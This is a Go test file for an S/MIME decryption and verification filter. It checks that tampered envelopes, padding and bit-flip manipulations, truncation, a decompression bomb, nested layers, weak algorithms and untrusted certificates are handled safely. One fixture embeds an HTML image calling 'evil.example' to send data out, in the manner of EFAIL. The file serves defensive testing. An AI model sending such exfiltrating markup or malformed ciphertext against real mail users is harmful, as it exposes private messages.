package smime

import (
	"bytes"
	"compress/zlib"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/asn1"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"postern/filter/chain"
	"postern/filter/cms"
	"postern/filter/keyring"
	"postern/filter/message"
	"postern/filter/protect"
	"postern/hsm"
	"postern/hsm/hsmtest"
)

const (
	textEntity = "Content-Type: text/plain\r\n\r\nthe launch code is 0000\r\n"
	htmlEntity = "Content-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://evil.example/0000\">\r\n"
)

// rewrapped is an envelope whose RSA-wrapped key is another one.
func rewrapped(t testing.TB, b []byte, change func(n int, pub *rsa.PublicKey) []byte, to keyring.Identity) []byte {
	t.Helper()
	e, err := cms.ReadEnvelope(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	x, err := parse(to.Raw)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Replace(b, e.Recipients[0].Wrapped.Ciphertext, change(e.KeySize(), x.PublicKey.(*rsa.PublicKey)), 1)
}

func wrap(t testing.TB, key []byte, pub *rsa.PublicKey) []byte {
	t.Helper()
	//lint:ignore SA1019 RFC 3370 §4.2.1
	c, err := rsa.EncryptPKCS1v15(rand.Reader, pub, key)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// flipped has one bit of a byte the other way round; i counts from the end if negative.
func flipped(b []byte, i int, bit byte) []byte {
	c := bytes.Clone(b)
	if i < 0 {
		i += len(c)
	}
	c[i] ^= bit
	return c
}

// compress makes CompressedData (RFC 3274 §1.1).
func compress(t testing.TB, content []byte) []byte {
	t.Helper()
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	if _, err := w.Write(content); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	type algorithm struct{ OID asn1.ObjectIdentifier }
	type encapsulated struct {
		Type    asn1.ObjectIdentifier
		Content []byte `asn1:"explicit,tag:0"`
	}
	type data struct {
		Version   int
		Algorithm algorithm
		Content   encapsulated
	}
	der, err := asn1.Marshal(struct {
		Type    asn1.ObjectIdentifier
		Content data `asn1:"explicit,tag:0"`
	}{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 9, 16, 1, 9}, data{0, algorithm{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 9, 16, 3, 8}}, encapsulated{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 1}, z.Bytes()}}})
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// R1: whatever is wrong with a mail that is sealed, there is one answer, and nothing with it.
func TestOneError(t *testing.T) {
	w := newWorld(t, rsaPair)
	w.config.Limits = message.Limits{Parts: 100}
	carol := w.ca.person(t, w.token, rsaPair, "carol@partner.example")
	good := w.envelope(textEntity, cms.AES256CBC)
	gcm := w.envelope(textEntity, cms.AES256GCM)
	content := func(entity string, c cms.Cipher) []byte { return w.envelope(entity, c) }
	oid := []byte("\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2a") // AES-256-CBC
	opaque := w.signed(textEntity, w.signing(w.alice.signs))
	bomb := compress(t, make([]byte, 60<<20))
	for _, c := range []struct {
		name string
		data []byte
	}{
		{"a wrong key", rewrapped(t, good, func(n int, pub *rsa.PublicKey) []byte { return wrap(t, make([]byte, n), pub) }, w.bob.opens)},
		{"a key that is too short", rewrapped(t, good, func(n int, pub *rsa.PublicKey) []byte { return wrap(t, make([]byte, n-1), pub) }, w.bob.opens)},
		{"a key that is too long", rewrapped(t, good, func(n int, pub *rsa.PublicKey) []byte { return wrap(t, make([]byte, 100), pub) }, w.bob.opens)},
		{"bad padding of the key", rewrapped(t, good, func(_ int, pub *rsa.PublicKey) []byte { return bytes.Repeat([]byte{1}, pub.Size()) }, w.bob.opens)},
		{"a wrapped key beyond the modulus", rewrapped(t, good, func(_ int, pub *rsa.PublicKey) []byte { return bytes.Repeat([]byte{0xff}, pub.Size()) }, w.bob.opens)},
		{"a wrapped key of nothing", rewrapped(t, good, func(_ int, pub *rsa.PublicKey) []byte { return make([]byte, pub.Size()) }, w.bob.opens)},
		{"bad padding of the content", flipped(good, -10-17, 0x80)},
		{"a wrong tag", flipped(gcm, -7, 1)},
		{"altered ciphertext", flipped(gcm, -60, 1)},
		{"for somebody else", w.envelope(textEntity, cms.AES256CBC, carol.opens)},
		{"for our key that signs", w.envelope(textEntity, cms.AES256CBC, w.bob.signs)},
		{"NUL in the plaintext", content("Content-Type: text/plain\r\n\r\n\x00", cms.AES256CBC)},
		{"too many parts", content("Content-Type: multipart/mixed; boundary=x\r\n\r\n"+strings.Repeat("--x\r\n\r\n\r\n", 200), cms.AES256CBC)},
		{"a signature that is no signature", content(holding(opaque[:200]), cms.AES256GCM)},
		{"a signature in broken base64", content("Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQExDTALBglghkgBZQMEAgEwgAYJKoZIhvcNAQcBoIAkgA*", cms.AES256GCM)},
		{"something behind the signature", content(holding(append(bytes.Clone(opaque), 0)), cms.AES256GCM)},
		{"certificates alone, that don't say so", content(holding(bundled(t, w.ca.cert)), cms.AES256GCM)},
		{"a bomb", content(holding(bomb), cms.AES256GCM)},
		{"something behind it", append(bytes.Clone(good), 0)},
		{"cut", good[:len(good)-1]},
		{"cut in the middle", good[:len(good)/2]},
		{"cut at the head", good[:80]},
		{"an unknown cipher", bytes.Replace(good, oid, flipped(oid, -1, 0x40), 1)},
		{"another cipher", bytes.Replace(good, oid, flipped(oid, -1, 0x28), 1)},
		{"compressed without end", compress(t, []byte("Content-Type: text/plain\r\n\r\n"))[:40]},
	} {
		for _, around := range []string{"", "opaque", "compressed"} {
			if c.name == "a bomb" && around != "" {
				continue // once takes long enough
			}
			text := head + holding(c.data)
			switch around {
			case "opaque":
				text = head + holding(w.signed(holding(c.data), w.signing(w.alice.signs)))
			case "compressed":
				text = head + holding(compress(t, []byte(holding(c.data))))
			}
			m := mail(t, text)
			if New(w.config).Detect(m) != protect.Sealed {
				if c.name != "cut at the head" && c.name != "compressed without end" {
					t.Errorf("%s %s: not taken for sealed", around, c.name)
				}
				continue
			}
			opened, f, err := w.open(m)
			if err != protect.ErrCannotOpen || opened != nil || f.Opened || f.Signed || f.Good || f.Reason != "" {
				t.Errorf("%s %s: got %v, %+v, %v, want %v", around, c.name, opened, f, err, protect.ErrCannotOpen)
			}
		}
	}
	if _, f, err := w.open(mail(t, head+holding(good))); err != nil || !f.Opened {
		t.Errorf("the good one: got %+v, %v", f, err)
	}
	// A spool or a token is no property of the mail.
	r := w.request(mail(t, head+holding(good)))
	r.NewSpool = (&message.Spools{Memory: 1, Dir: "/nonexistent"}).New
	if _, _, err := New(w.config).Open(t.Context(), r); err == nil || errors.Is(err, protect.ErrCannotOpen) {
		t.Errorf("a broken disk: got %v", err)
	}
	w.config.Token = failing{w.token, hsm.ErrInvalid}
	if _, _, err := w.open(mail(t, head+holding(good))); err != protect.ErrCannotOpen {
		t.Errorf("refused as malformed: got %v, want %v", err, protect.ErrCannotOpen)
	}
}

// reach knows how far a source was read.
type reach struct {
	message.Source
	end int64
}

func (r *reach) ReadAt(p []byte, off int64) (int, error) {
	n, err := r.Source.ReadAt(p, off)
	r.end = max(r.end, off+int64(n))
	return n, err
}

// R2: a wrong key, wrong padding and a plaintext that makes no sense are all
// found out at the end of the ciphertext.
func TestReadsToTheEnd(t *testing.T) {
	w := newWorld(t, rsaPair)
	long := strings.Repeat("x", 1<<20)
	good := w.envelope(textEntity+long, cms.AES256CBC)
	for name, data := range map[string][]byte{
		"a wrong key":            rewrapped(t, good, func(n int, pub *rsa.PublicKey) []byte { return wrap(t, make([]byte, n), pub) }, w.bob.opens),
		"bad padding of the key": rewrapped(t, good, func(_ int, pub *rsa.PublicKey) []byte { return bytes.Repeat([]byte{1}, pub.Size()) }, w.bob.opens),
		"NUL":                    w.envelope("Content-Type: text/plain\r\n\r\n\x00"+long, cms.AES256CBC),
		"no signature":           w.envelope(holding([]byte("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x09"))+long, cms.AES256GCM),
		"too big":                w.envelope(textEntity+strings.Repeat(long, 2), cms.AES256CBC),
	} {
		m := mail(t, head+holding(data))
		source := &reach{Source: m.Source}
		m.Source = source
		r := w.request(m)
		r.NewSpool = (&message.Spools{Max: 3 << 19}).New
		if _, _, err := New(w.config).Open(t.Context(), r); err != protect.ErrCannotOpen || source.end != source.Size() {
			t.Errorf("%s: got %v, read up to %d of %d", name, err, source.end, source.Size())
		}
	}
}

// R4, R9: one token operation for a mail, and only for who it names first.
func TestOneOperation(t *testing.T) {
	w := newWorld(t, rsaPair)
	stranger := w.ca.opens(t, w.token, hsm.RSA2048, address(t, "stranger@elsewhere.example"))
	lost := newWorld(t, rsaPair)
	lost.ca = w.ca
	gone := w.ca.opens(t, lost.token, hsm.P256, w.bob.opens.Address) // in no token of ours
	strangers := func(n int) []keyring.Identity { return slices.Repeat([]keyring.Identity{stranger}, n) }
	second := w.ca.opens(t, w.token, hsm.RSA2048, w.bob.opens.Address)
	broken := rewrapped(t, w.envelope(textEntity, cms.AES256CBC), func(n int, pub *rsa.PublicKey) []byte { return wrap(t, make([]byte, n), pub) }, w.bob.opens)
	for _, c := range []struct {
		name   string
		data   []byte
		ids    []keyring.Identity
		unwrap int
		opens  bool
		err    error
	}{
		{"one", w.envelope(textEntity, cms.AES256CBC), w.ids, 1, true, nil},
		{"1,000 for us", w.envelope(textEntity, cms.AES256CBC, slices.Repeat([]keyring.Identity{w.bob.opens}, 1000)...), w.ids, 1, true, nil},
		{"two for us, both keys ours", w.envelope(textEntity, cms.AES256CBC, w.bob.opens, second), []keyring.Identity{second, w.bob.opens}, 1, true, nil},
		{"a broken one for us", broken, []keyring.Identity{w.bob.opens, second}, 1, false, protect.ErrCannotOpen},
		{"a key that is gone, and one that is not", w.envelope(textEntity, cms.AES256CBC, gone, w.bob.opens), []keyring.Identity{gone, w.bob.opens}, 2, true, nil},
		{"a key that is gone", w.envelope(textEntity, cms.AES256CBC, gone), []keyring.Identity{gone}, 1, false, hsm.ErrNoKey},
		{"15 others", w.envelope(textEntity, cms.AES256CBC, append(strangers(1), w.bob.opens)...), w.ids, 1, true, nil},
		{"the stranger's own", w.envelope(textEntity, cms.AES256CBC, stranger), w.ids, 0, false, protect.ErrCannotOpen},
		{"nobody reads", w.envelope(textEntity, cms.AES256CBC), nil, 0, false, protect.ErrCannotOpen},
		{"our 17th identity", w.envelope(textEntity, cms.AES256CBC), append(strangers(16), w.bob.opens), 0, false, protect.ErrCannotOpen},
	} {
		before := w.counted.Unwraps()
		r := w.request(mail(t, head+holding(c.data)))
		r.Identities = c.ids
		_, f, err := New(w.config).Open(t.Context(), r)
		if !errors.Is(err, c.err) || f.Opened != c.opens || w.counted.Unwraps()-before != c.unwrap {
			t.Errorf("%s: got %+v, %v after %d operations, want %v after %d", c.name, f, err, w.counted.Unwraps()-before, c.opens, c.unwrap)
		}
	}
}

// R13: a signature around encryption gives no claim, one inside does, and what
// is encrypted again inside of it takes that away.
func TestNested(t *testing.T) {
	w := newWorld(t, ecPair)
	alice := w.signing(w.alice.signs)
	opaque := func(entity string) string { return holding(w.signed(entity, alice)) }
	multi := func(entity string) string { return w.multipart(entity, alice) }
	seal := func(entity string) string { return holding(w.envelope(entity, cms.AES256CBC)) }
	aead := func(entity string) string { return holding(w.envelope(entity, cms.AES256GCM)) }
	squeezed := func(entity string) string { return holding(compress(t, []byte(entity))) }
	const pgp = "Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nwxyz\r\n-----END PGP MESSAGE-----\r\n"
	for _, c := range []struct {
		name, entity string
		opened       bool
		reason       string
		shows        string
	}{
		{"opaque", opaque(textEntity), false, protect.ReasonGood, ""},
		{"multipart", multi(textEntity), false, protect.ReasonGood, "launch"},
		{"sealed opaque", seal(opaque(textEntity)), true, protect.ReasonGood, "launch"},
		{"sealed multipart", seal(multi(textEntity)), true, protect.ReasonGood, "launch"},
		{"sealed opaque, in binary", aead("Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n" + string(w.signed(textEntity, alice))), true, protect.ReasonGood, "launch"},
		{"opaque around sealed", opaque(seal(textEntity)), true, protect.ReasonUnauthenticated, "launch"},
		{"multipart around sealed", multi(seal(textEntity)), true, protect.ReasonUnauthenticated, "launch"},
		{"opaque around what is authenticated", opaque(aead(textEntity)), true, protect.ReasonNone, "launch"},
		{"triple, multipart", multi(aead(multi(textEntity))), true, protect.ReasonGood, "launch"},
		{"triple, opaque", opaque(seal(opaque(textEntity))), true, protect.ReasonGood, "launch"},
		{"compressed on both sides", multi(squeezed(seal(squeezed(opaque(squeezed(textEntity)))))), true, protect.ReasonPartial, ""},
		{"compressed, then signed, then sealed", seal(opaque(squeezed(textEntity))), true, protect.ReasonGood, "launch"},
		{"signed, then compressed, then sealed", seal(squeezed(opaque(textEntity))), true, protect.ReasonGood, "launch"},
		{"compressed signature", squeezed(opaque(textEntity)), false, protect.ReasonGood, ""},
		{"compressed", squeezed(textEntity), false, protect.ReasonNone, ""},
		{"sealed twice", aead(aead(opaque(textEntity))), true, protect.ReasonNone, ""},
		{"sealed, signed, sealed", aead(multi(aead(textEntity))), true, protect.ReasonPartial, ""},
		{"sealed, opaque, sealed", aead(opaque(aead(textEntity))), true, protect.ReasonPartial, ""},
		{"signed around OpenPGP", multi(pgp), false, protect.ReasonPartial, ""},
		{"opaque around OpenPGP", opaque(pgp), false, protect.ReasonPartial, ""},
		{"sealed, opaque, OpenPGP", aead(opaque(pgp)), true, protect.ReasonPartial, ""},
		{"opaque around a file of CMS", opaque(strings.Replace(aead(textEntity), "application/pkcs7-mime", "application/octet-stream; name=smime.p7m", 1)), true, protect.ReasonNone, "launch"},
		{"a signature as a part", "Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n" + multi(textEntity) + "\r\n--y--\r\n", false, protect.ReasonNone, ""},
		{"a signature as a part, sealed", aead("Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n" + multi(textEntity) + "\r\n--y\r\n\r\npay me\r\n--y--\r\n"), true, protect.ReasonNone, "pay me"},
		{"an opaque signature as a part, sealed", aead("Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n" + opaque(textEntity) + "\r\n--y\r\n\r\npay me\r\n--y--\r\n"), true, protect.ReasonNone, "pay me"},
		{"opaque twice", opaque(opaque(textEntity)), false, protect.ReasonPartial, ""},
	} {
		before := w.counted.Unwraps()
		m := mail(t, head+c.entity)
		opened, f, err := w.open(m)
		if err != nil || f.Opened != c.opened || f.Reason != c.reason || f.Good != (c.reason == protect.ReasonGood) {
			t.Errorf("%s: got %+v, %v, want opened %v, %s", c.name, f, err, c.opened, c.reason)
			continue
		}
		if !c.opened && opened != m {
			t.Errorf("%s: comes as another mail", c.name)
		}
		if got := printed(t, opened); !strings.Contains(got, c.shows) || c.shows == "" && c.opened && strings.Contains(got, "launch") {
			t.Errorf("%s: got\n%s", c.name, got)
		}
		if got := w.counted.Unwraps() - before; got > 1 {
			t.Errorf("%s: %d token operations", c.name, got)
		}
	}
	// Layers without end open nothing, and cost nothing.
	deep := seal(textEntity)
	for range 20 {
		deep = opaque(deep)
	}
	before := w.counted.Unwraps()
	if _, f, _ := w.open(mail(t, head+deep)); f.Opened || f.Good || w.counted.Unwraps() != before {
		t.Errorf("20 layers: got %+v", f)
	}
}

// R11: what makes of one signature two meanings is none.
func TestConfusion(t *testing.T) {
	w := newWorld(t, rsaPair)
	o := newOpenSSL(t)
	key, second := o.private("RSA", "-pkeyopt", "rsa_keygen_bits:2048"), o.private("EC", "-pkeyopt", "ec_paramgen_curve:P-256")
	alice := address(t, "alice@company1.example")
	one := o.cert("one.pem", w.ca.issue(t, user(alice, x509.KeyUsageDigitalSignature), o.public(key)))
	two := o.cert("two.pem", w.ca.issue(t, user(alice, x509.KeyUsageDigitalSignature), o.public(second)))
	unknown := o.cert("unknown.pem", newAuthority(t, "Unknown CA").issue(t, user(alice, x509.KeyUsageDigitalSignature), o.public(second)))
	sign := func(more ...string) []byte {
		return []byte(o.run(textEntity, append([]string{"-sign", "-binary", "-outform", "DER", "-signer", one, "-inkey", key}, more...)...))
	}
	both := sign("-signer", two, "-inkey", second)
	stranger := sign("-signer", unknown, "-inkey", second)
	opaque := sign("-nodetach")
	none := bundled(t, w.ca.cert)
	w.known = []keyring.Cert{}
	for _, c := range []struct {
		name, text, want string
	}{
		{"one", beside(textEntity, sign()), protect.ReasonGood},
		{"two", beside(textEntity, both), protect.ReasonGood},
		{"two, one of them bad", beside(textEntity, flipped(both, -1, 1)), protect.ReasonBad},
		{"two, one of them bad and the other unknown", beside(textEntity, flipped(stranger, -1, 1)), protect.ReasonBad},
		{"two, one of them unknown", beside(textEntity, stranger), protect.ReasonUnknownCert},
		{"two, one of them without its certificate", beside(textEntity, sign("-signer", two, "-inkey", second, "-nocerts")), protect.ReasonUnknownCert},
		{"content inside of a detached one", beside(textEntity, opaque), protect.ReasonBad},
		{"other content inside of a detached one", beside("Content-Type: text/plain\r\n\r\nother\r\n", opaque), protect.ReasonBad},
		{"no signer", beside(textEntity, none), protect.ReasonBad},
		{"no signature", beside(textEntity, []byte("hello")), protect.ReasonBad},
		{"nothing", beside(textEntity, nil), protect.ReasonBad},
		{"something behind it", beside(textEntity, append(sign(), 0)), protect.ReasonBad},
		{"other content", beside("Content-Type: text/plain\r\n\r\nother\r\n", sign()), protect.ReasonBad},
		{"opaque", holding(opaque), protect.ReasonGood},
		{"opaque, with something behind it", holding(append(bytes.Clone(opaque), 0)), protect.ReasonBad},
		{"opaque, altered", holding(bytes.Replace(opaque, []byte("launch"), []byte("lunch!"), 1)), protect.ReasonBad},
		{"opaque, with text behind it", holding(opaque) + "\r\nPay me.\r\n", protect.ReasonBad},
		{"sealed, two, one of them bad", holding(w.envelope(beside(textEntity, flipped(both, -1, 1)), cms.AES256GCM)), protect.ReasonBad},
		{"sealed, content inside", holding(w.envelope(beside(textEntity, opaque), cms.AES256GCM)), protect.ReasonBad},
	} {
		r := w.request(mail(t, head+c.text))
		r.At = time.Now() // that of OpenSSL
		_, f, err := New(w.config).Open(t.Context(), r)
		if err != nil || f.Reason != c.want || f.Good != (c.want == protect.ReasonGood) || !f.Signed {
			t.Errorf("%s: got %+v, %v, want %s", c.name, f, err, c.want)
		}
	}
}

// R14: weak algorithms verify nothing; old ciphers open behind a switch, and are nobody's word.
func TestWeak(t *testing.T) {
	w := newWorld(t, rsaPair)
	o := newOpenSSL(t)
	key, short := o.private("RSA", "-pkeyopt", "rsa_keygen_bits:2048"), o.private("RSA", "-pkeyopt", "rsa_keygen_bits:1024")
	alice := address(t, "alice@company1.example")
	cert, weak := w.ca.issue(t, user(alice, x509.KeyUsageDigitalSignature), o.public(key)), w.ca.issue(t, user(alice, x509.KeyUsageDigitalSignature), o.public(short))
	sign := func(c *x509.Certificate, key string, more ...string) []byte {
		return []byte(o.run(textEntity, append([]string{"-sign", "-binary", "-outform", "DER", "-signer", o.cert("one.pem", c), "-inkey", key}, more...)...))
	}
	for _, c := range []struct {
		name string
		cert *x509.Certificate
		data []byte
		want string
	}{
		{"SHA-256", cert, sign(cert, key), protect.ReasonGood},
		{"SHA-1", cert, sign(cert, key, "-md", "sha1"), protect.ReasonWeak},
		{"MD5", cert, sign(cert, key, "-md", "md5"), protect.ReasonWeak},
		{"RSA of 1024 bits", weak, sign(weak, short), protect.ReasonWeak},
	} {
		for _, pinned := range []bool{false, true} {
			w.known = nil
			if pinned {
				w.known = []keyring.Cert{entry(c.cert, alice).Cert}
			}
			for _, text := range []string{beside(textEntity, c.data), holding(w.envelope(beside(textEntity, c.data), cms.AES256GCM))} {
				r := w.request(mail(t, head+text))
				r.At = time.Now()
				if _, f, err := New(w.config).Open(t.Context(), r); err != nil || f.Reason != c.want || f.Good != (c.want == protect.ReasonGood) {
					t.Errorf("%s, pinned %v: got %+v, %v, want %s", c.name, pinned, f, err, c.want)
				}
			}
		}
	}
	bob, err := parse(w.bob.opens.Raw)
	if err != nil {
		t.Fatal(err)
	}
	for name, entity := range map[string]string{"3DES": textEntity, "3DES, signed": w.multipart(textEntity, w.signing(w.alice.signs))} {
		m := mail(t, head+o.run(entity, "-encrypt", "-binary", "-des3", o.cert("bob.pem", bob)))
		w.config.Legacy = false
		if opened, f, err := w.open(m); err != protect.ErrCannotOpen || opened != nil || f.Opened {
			t.Errorf("%s: got %+v, %v, want %v", name, f, err, protect.ErrCannotOpen)
		}
		want := protect.ReasonGood
		if name == "3DES" {
			want = protect.ReasonUnauthenticated
		}
		w.config.Legacy = true
		if _, f, err := w.open(m); err != nil || !f.Opened || f.Good != (want == protect.ReasonGood) || f.Reason != want {
			t.Errorf("%s behind the switch: got %+v, %v, want %s", name, f, err, want)
		}
	}
}

// Who is believed: by a path, by the word of an operator, and not against it.
func TestTrust(t *testing.T) {
	token := soft(t)
	w := &world{TB: t, token: token, counted: hsmtest.Count(token), ca: newAuthority(t, "Test CA")}
	other := newAuthority(t, "Other CA")
	alice := address(t, "alice@company1.example")
	gateway := address(t, "gateway@company1.example")
	key := generate(t, token, hsm.P256, hsm.Sign)
	make := func(ca *authority, who message.Address, change func(*x509.Certificate)) keyring.Identity {
		c := user(who, x509.KeyUsageDigitalSignature)
		if change != nil {
			change(c)
		}
		return entry(ca.issue(t, c, key.Public), who)
	}
	good, foreign := make(w.ca, alice, nil), make(other, alice, nil)
	expired := func(c *x509.Certificate) { c.NotAfter = now.Add(-time.Hour) }
	server := func(c *x509.Certificate) { c.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth} }
	agrees := func(c *x509.Certificate) { c.KeyUsage = x509.KeyUsageKeyAgreement }
	x, err := parse(good.Raw)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateRevocationList(rand.Reader, &x509.RevocationList{Number: x.SerialNumber, ThisUpdate: now.Add(-time.Hour), NextUpdate: now.Add(time.Hour),
		RevokedCertificateEntries: []x509.RevocationListEntry{{SerialNumber: x.SerialNumber, RevocationTime: now.Add(-2 * time.Hour)}}}, w.ca.cert, w.ca.key)
	if err != nil {
		t.Fatal(err)
	}
	revoking, err := chain.New(chain.Config{Anchors: []chain.Anchor{{Cert: w.ca.cert, Own: true}}, Mode: chain.Soft, CRLs: [][]byte{der}})
	if err != nil {
		t.Fatal(err)
	}
	judge := w.ca.judge(t)
	of := func(id keyring.Identity, trust keyring.Trust, domains ...string) []keyring.Cert {
		c := id.Cert
		c.Trust, c.Domains = trust, domains
		return []keyring.Cert{c}
	}
	domain := make(w.ca, gateway, nil)
	foreignDomain := make(other, gateway, nil)
	for _, c := range []struct {
		name   string
		by     keyring.Identity
		judge  *chain.Judge
		known  []keyring.Cert
		want   string
		speaks []message.Address // for whom, when it is good
	}{
		{"a path", good, judge, nil, protect.ReasonGood, []message.Address{alice}},
		{"a path, and seen before", good, judge, of(good, keyring.Seen), protect.ReasonGood, []message.Address{alice}},
		{"a path, and distrusted", good, judge, of(good, keyring.Distrusted), protect.ReasonUntrusted, nil},
		{"no judge", good, nil, nil, protect.ReasonUnknownCert, nil},
		{"no judge, pinned", good, nil, of(good, keyring.Trusted), protect.ReasonGood, []message.Address{alice}},
		{"no path", foreign, judge, nil, protect.ReasonUnknownCert, nil},
		{"no path, seen before", foreign, judge, of(foreign, keyring.Seen), protect.ReasonUntrusted, nil},
		{"no path, pinned", foreign, judge, of(foreign, keyring.Trusted), protect.ReasonGood, []message.Address{alice}},
		{"no path, another one pinned", foreign, judge, of(good, keyring.Trusted), protect.ReasonUnknownCert, nil},
		{"no path, distrusted", foreign, judge, of(foreign, keyring.Distrusted), protect.ReasonUntrusted, nil},
		{"expired", make(w.ca, alice, expired), judge, nil, protect.ReasonExpired, nil},
		{"for servers", make(w.ca, alice, server), judge, nil, protect.ReasonUntrusted, nil},
		{"for encryption", make(w.ca, alice, agrees), judge, nil, protect.ReasonUntrusted, nil},
		{"revoked", good, revoking, nil, protect.ReasonRevoked, nil},
		{"revoked, pinned", good, revoking, of(good, keyring.Trusted), protect.ReasonRevoked, nil},
		{"somebody else", domain, judge, nil, protect.ReasonGood, []message.Address{gateway}},
		{"of a domain", domain, judge, of(domain, keyring.Seen, "company1.example"), protect.ReasonGood, []message.Address{gateway, alice}},
		{"of another domain", domain, judge, of(domain, keyring.Trusted, "company2.example"), protect.ReasonGood, []message.Address{gateway}},
		{"of a domain, pinned", foreignDomain, judge, of(foreignDomain, keyring.Trusted, "company1.example"), protect.ReasonGood, []message.Address{gateway, alice}},
		{"of a domain, no path", foreignDomain, judge, of(foreignDomain, keyring.Seen, "company1.example"), protect.ReasonUntrusted, nil},
	} {
		w.config = Config{Token: token, Judge: c.judge}
		w.known = c.known
		_, f, err := w.open(mail(t, head+w.multipart(textEntity, w.signing(c.by))))
		if err != nil || f.Reason != c.want || f.Good != (c.want == protect.ReasonGood) || !slices.Equal(f.Signers, c.speaks) {
			t.Errorf("%s: got %+v, %v, want %s, %v", c.name, f, err, c.want, c.speaks)
		}
	}
	for name, change := range map[string]func(*x509.Certificate){"expired": expired, "for servers": server, "for encryption": agrees} {
		id := make(other, alice, change)
		w.known = of(id, keyring.Trusted)
		if _, f, err := w.open(mail(t, head+w.multipart(textEntity, w.signing(id)))); err != nil || f.Good {
			t.Errorf("pinned, %s: got %+v, %v", name, f, err)
		}
	}
	w.known = of(good, keyring.Distrusted)
	for _, text := range []string{strings.Replace(head, "From: Alice <alice@company1.example>\r\n", "", 1), "From: eve@evil.example\r\n" + head} {
		w.known = of(domain, keyring.Trusted, "company1.example")
		if _, f, err := w.open(mail(t, text+w.multipart(textEntity, w.signing(domain)))); err != nil || !slices.Equal(f.Signers, []message.Address{gateway}) {
			t.Errorf("no one author: got %+v, %v", f, err)
		}
	}
}

// Certificates that only have the right name don't cost more than a few signatures (R29).
func TestManyOfOneName(t *testing.T) {
	w := newWorld(t, ecPair)
	x, err := parse(w.alice.signs.Raw)
	if err != nil {
		t.Fatal(err)
	}
	key := generate(t, w.token, hsm.P256, hsm.Sign)
	for others, want := range map[int]string{maxTried - 1: protect.ReasonGood, maxTried: protect.ReasonBad} {
		signature := w.signing(w.alice.signs)
		for range others {
			c := user(w.alice.signs.Address, x509.KeyUsageDigitalSignature)
			c.SerialNumber = x.SerialNumber
			signature.Others = append(signature.Others, w.ca.issue(t, c, key.Public))
		}
		// In front of the right one they stand because they are sorted nowhere.
		data := w.signed(textEntity, signature)
		front := bytes.Index(data, x.Raw)
		var rest []byte
		for _, c := range signature.Others {
			rest = append(rest, c.Raw...)
		}
		copy(data[front:], append(bytes.Clone(rest), x.Raw...))
		if _, f, err := w.open(mail(t, head+holding(data))); err != nil || f.Reason != want {
			t.Errorf("%d of the same name before the right one: got %+v, %v, want %s", others, f, err, want)
		}
	}
}

// A mail that can't be read is told as that.
func TestBrokenSource(t *testing.T) {
	w := newWorld(t, ecPair)
	for name, m := range map[string]*message.Message{"sealed": w.sealed(textEntity, cms.AES256CBC), "opaque": w.opaque(textEntity), "signed": w.seal(mail(t, letter), true, protect.Style{})} {
		for after := 0; ; after++ {
			source := &ending{Source: m.Source, left: after}
			broken := *m
			broken.Source = source
			opened, f, err := w.open(&broken)
			if source.left >= 0 {
				if err != nil {
					t.Errorf("%s: %v", name, err)
				}
				break
			}
			if !errors.Is(err, io.ErrUnexpectedEOF) || errors.Is(err, protect.ErrCannotOpen) || opened != nil || f.Good || f.Opened {
				t.Errorf("%s, after %d reads: got %+v, %v", name, after, f, err)
			}
		}
	}
}

// ending is a source whose disk breaks.
type ending struct {
	message.Source
	left int
}

func (e *ending) ReadAt(p []byte, off int64) (int, error) {
	if e.left--; e.left < 0 {
		return 0, io.ErrUnexpectedEOF
	}
	return e.Source.ReadAt(p, off)
}
